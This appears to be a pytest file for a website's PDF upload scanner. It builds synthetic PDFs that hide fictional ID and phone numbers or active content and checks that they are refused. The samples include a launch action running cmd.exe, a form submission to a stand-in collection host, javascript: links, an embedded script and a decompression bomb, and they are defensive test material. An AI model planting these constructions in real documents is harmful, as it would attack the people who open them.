"""PDFs made to hide personal numbers or active content from the docs/ scanner (validate/files.py):
every object written in the file is read (older revisions, object streams, objects nothing
references) and every stream's text, so each is refused; realistic PDFs are still accepted."""

from __future__ import annotations

import zlib

import pytest

from site_builder.validate import files
from site_builder.validate.files import check_docs_files
from site_builder.validate.personal_data import is_resident_id

FICTIONAL_ID = "11010519491231002X"  # the standard's own worked example
FICTIONAL_MOBILE = "13800001234"
assert is_resident_id(FICTIONAL_ID)
TEXT = b"BT /F1 12 Tf 72 720 Td (Shili City labour brand notice 2026) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(data: bytes, extra: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        data, extra = zlib.compress(data), extra + b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def build(objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF with a classic cross-reference table of `objects` (number -> body)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for n in sorted(objects):
        offsets[n] = len(out)
        out += b"%d 0 obj\n" % n + objects[n] + b"\nendobj\n"
    xref, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % offsets[n] if n in offsets else b"0000000000 65535 f \n"
                    for n in range(1, size))
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref)
    return bytes(out)


def one_page(content: bytes = TEXT, page: bytes = b"", catalog: bytes = b"",
             extra: dict[int, bytes] | None = None, compress: bool = False) -> dict[int, bytes]:
    return {1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 "
                b"5 0 R >> >> /Contents 4 0 R " + page + b" >>"),
            4: stream(content, compress=compress), 5: FONT, **(extra or {})}


def update(base: bytes, objects: dict[int, bytes], size: int) -> bytes:
    """An incremental save: `objects` appended after the file, with a table pointing back."""
    prev = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    out = bytearray(base)
    rows = b""
    for n, body in sorted(objects.items()):
        rows += b"%d 1\n%010d 00000 n \n" % (n, len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n" + rows
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, prev, xref)
    return bytes(out)


def packed(regular: dict[int, bytes], compressed: dict[int, bytes]) -> bytes:
    """A PDF 1.5 file: `compressed` kept in an object stream, found through an xref stream."""
    head, body = b"", b""
    for n, obj in compressed.items():
        head += b"%d %d " % (n, len(body))
        body += obj + b"\n"
    z = zlib.compress(head + body)
    box = max([*regular, *compressed]) + 1
    regular = {**regular, box: (b"<< /Type /ObjStm /N %d /First %d /Length %d /Filter /FlateDecode "
                                b">>\nstream\n" % (len(compressed), len(head), len(z)) + z
                                + b"\nendstream")}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for n in sorted(regular):
        offsets[n] = len(out)
        out += b"%d 0 obj\n" % n + regular[n] + b"\nendobj\n"
    xref_num = box + 1
    index = {n: i for i, n in enumerate(compressed)}
    rows = b""
    for n in range(xref_num + 1):
        if n in offsets:
            rows += b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00"
        elif n in index:
            rows += b"\x02" + box.to_bytes(4, "big") + bytes([index[n]])
        elif n == xref_num:
            rows += b"\x01" + len(out).to_bytes(4, "big") + b"\x00"
        else:
            rows += b"\x00\x00\x00\x00\x00\xff"
    at = len(out)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n"
            % (xref_num, xref_num + 1, len(rows)) + rows + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def scan(tmp_path, data: bytes) -> tuple[bool, list]:
    path = tmp_path / "docs" / "files" / "notice.pdf"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    checked = check_docs_files(tmp_path)
    return "files/notice.pdf" in checked.accepted, checked.diagnostics


ID, MOBILE = FICTIONAL_ID.encode(), FICTIONAL_MOBILE.encode()
PAGE_ONLY = {1: one_page()[1], 2: one_page()[2], 3: one_page()[3], 4: one_page()[4], 5: FONT}
XMP = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
       b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
       b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>%s</dc:creator>'
       b'<xmp:CreateDate>2026-11-20T09:30:00+08:00</xmp:CreateDate></rdf:Description></rdf:RDF>'
       b'</x:xmpmeta><?xpacket end="w"?>')

NUMBERS = {
    # the first save held the number on the page; the second drew the page again without it
    "old revision": update(build(one_page(b"BT /F1 12 Tf 72 720 Td (Contact ID " + ID + b") Tj ET")),
                           {4: stream(TEXT)}, 6),
    "stamp appearance": build(one_page(page=b"/Annots [6 0 R]", extra={
        6: b"<< /Type /Annot /Subtype /Stamp /Rect [72 600 400 640] /AP << /N 7 0 R >> >>",
        7: stream(b"BT /F1 12 Tf 0 10 Td [(138) -30 (0000) -30 (1234)] TJ ET",
                  b"/Type /XObject /Subtype /Form /BBox [0 0 328 40]", compress=True)})),
    "free text, a byte outside PDFDocEncoding": build(one_page(page=b"/Annots [6 0 R]", extra={
        6: b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 300 50] /DA (/F1 12 Tf) /Contents ("
           + ID + b"\x9f) >>"})),
    "catalog metadata without its type": build(one_page(catalog=b"/Metadata 6 0 R", extra={
        6: stream(XMP % ID, b"/Subtype /XML", compress=True)})),
    "stream nothing references": build(one_page(extra={
        6: stream(b"name,id\nShili Zhang," + ID + b"\n", compress=True)})),
    "private application data": build(one_page(page=b"/PieceInfo << /ShiliApp << /LastModified "
                                                    b"(D:20261120) /Private 6 0 R >> >>",
                                               extra={6: stream(b"contact " + MOBILE)})),
    "two-byte text in a stream nothing references": build(one_page(extra={
        6: stream(b"BT /F1 12 Tf <" + FICTIONAL_ID.encode("utf-16-be").hex().encode() + b"> Tj ET",
                  compress=True)})),
}


@pytest.mark.parametrize("name", NUMBERS)
def test_a_number_hidden_outside_the_pages_is_found(tmp_path, name):
    accepted, diags = scan(tmp_path, NUMBERS[name])
    assert not accepted
    assert [d.code for d in diags] in (["P001"], ["P002"]), [d.format() for d in diags]
    assert "提示：" in diags[0].message and FICTIONAL_ID not in diags[0].message


LAUNCH = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
ACTIVE = {
    "file attachment annotation": (build(one_page(page=b"/Annots [6 0 R]", extra={
        6: (b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS << /Type "
            b"/Filespec /F (list.html) /EF << /F 7 0 R >> >> >>"),
        7: stream(b"<html><script>alert(1)</script></html>", compress=True)})), "附件"),
    "launch chained by /Next in an object stream": (packed(
        {k: v for k, v in PAGE_ONLY.items() if k != 1},
        {1: (b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next "
             b"[7 0 R] >> >>"), 7: LAUNCH}), "启动程序"),
    "submit chained by /Next in an object stream": (packed(
        {k: v for k, v in PAGE_ONLY.items() if k != 1},
        {1: (b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next "
             b"[7 0 R] >> >>"),
         7: b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >>"}), "提交表单"),
    "javascript address chained by /Next in an object stream": (packed(
        {k: v for k, v in PAGE_ONLY.items() if k != 1},
        {1: (b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next "
             b"[7 0 R] >> >>"), 7: b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"}),
        "javascript: 链接"),
    "link with a /PA launch": (packed(
        {2: PAGE_ONLY[2], 3: PAGE_ONLY[3].replace(b"/Contents 4 0 R", b"/Contents 4 0 R /Annots "
                                                  b"[6 0 R]"), 4: PAGE_ONLY[4], 5: FONT},
        {1: b"<< /Type /Catalog /Pages 2 0 R >>",
         6: b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 730] /PA 7 0 R >>",
         7: b"<< /S /Launch /F (cmd.exe) >>"}), "启动程序"),
    "javascript address with a byte outside PDFDocEncoding": (build(one_page(
        page=b"/Annots [6 0 R]", extra={6: (b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 730] "
                                            b"/A << /S /URI /URI (javascript:alert\\(1\\)//\x9f) >> >>")})),
        "javascript: 链接"),
    "launch in an old revision": (update(build(one_page(catalog=b"/OpenAction 6 0 R", extra={
        6: LAUNCH})), {1: b"<< /Type /Catalog /Pages 2 0 R >>"}, 7), "启动程序"),
}


@pytest.mark.parametrize("name", ACTIVE)
def test_active_content_anywhere_in_the_file_is_refused(tmp_path, name):
    data, words = ACTIVE[name]
    accepted, diags = scan(tmp_path, data)
    assert not accepted
    assert [d.code for d in diags] == ["P015"], [d.format() for d in diags]
    assert words in diags[0].message and "提示：" in diags[0].message


def signed_then_updated() -> bytes:
    """A notice signed by the bureau (a signature field with its placeholder contents), then
    saved again incrementally to add an outline: what signing software writes."""
    first = build(one_page(catalog=b"/AcroForm << /Fields [6 0 R] /SigFlags 3 >>",
                           page=b"/Annots [6 0 R]", extra={
        6: (b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [0 0 0 0] /P 3 0 R "
            b"/V 7 0 R >>"),
        7: (b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange "
            b"[0 1234 5678 910] /M (D:20261120093000+08'00') /Name (Shili Bureau) /Reason "
            b"(Approved) /Contents <" + b"0" * 1024 + b"> >>")}, compress=True))
    return update(first, {
        1: (b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] /SigFlags 3 >> "
            b"/Outlines 8 0 R /Metadata 10 0 R >>"),
        8: b"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>",
        9: b"<< /Title (Notice 2026-11) /Parent 8 0 R /Dest [3 0 R /Fit] >>",
        10: stream(XMP % b"Shili Bureau", b"/Type /Metadata /Subtype /XML", compress=True)}, 11)


ACCEPTED = {
    "signed, then updated": signed_then_updated(),
    "opening view, link and properties": build(one_page(
        catalog=b"/OpenAction [3 0 R /XYZ 0 842 0] /PageMode /UseOutlines", page=b"/Annots [6 0 R]",
        extra={6: (b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Border [0 0 0] /A << /S /URI "
                   b"/URI (https://www.example.gov.cn/) >> >>"),
               7: b"<< /Title (Notice No. 2026-12) /Producer (WPS Office) /CreationDate "
                  b"(D:20261120093000+08'00') >>",
               8: stream(b"\x89PNG" + bytes(range(256)) * 8, b"/Type /XObject /Subtype /Image "
                         b"/Width 64 /Height 32 /ColorSpace /DeviceGray /BitsPerComponent 8",
                         compress=True)}),
        trailer=b"/Info 7 0 R"),
    "drawing with many numbers": build(one_page(
        b"q 1 0 0 1 72 700 cm 0.138 0.0013 0.1234 rg 138 0013 1234 5678 re f Q "
        b"BT /F1 12 Tf 72 720 Td [(Hotline 020-12345678, policy 2026-12) -20 (, page 1)] TJ ET",
        compress=True)),
}


@pytest.mark.parametrize("name", ACCEPTED)
def test_realistic_pdfs_are_still_accepted(tmp_path, name):
    accepted, diags = scan(tmp_path, ACCEPTED[name])
    assert diags == [] and accepted, [d.format() for d in diags]


def test_a_file_asking_for_more_work_than_the_bounds_cannot_be_checked(tmp_path, monkeypatch):
    many = build(one_page(extra={n: b"<< /N %d >>" % n for n in range(6, 60)}))
    monkeypatch.setattr(files, "MAX_PDF_OBJECTS", 50)
    accepted, diags = scan(tmp_path, many)
    assert not accepted and [d.code for d in diags] == ["P016"] and "上限" in diags[0].message
    monkeypatch.setattr(files, "MAX_PDF_OBJECTS", 100_000)
    monkeypatch.setattr(files, "MAX_PDF_DECODED_BYTES", 1024 * 1024)
    bomb = build(one_page(extra={6: stream(b"\x00" * (4 * 1024 * 1024), compress=True)}))
    accepted, diags = scan(tmp_path, bomb)
    assert not accepted and [d.code for d in diags] == ["P016"] and "上限" in diags[0].message
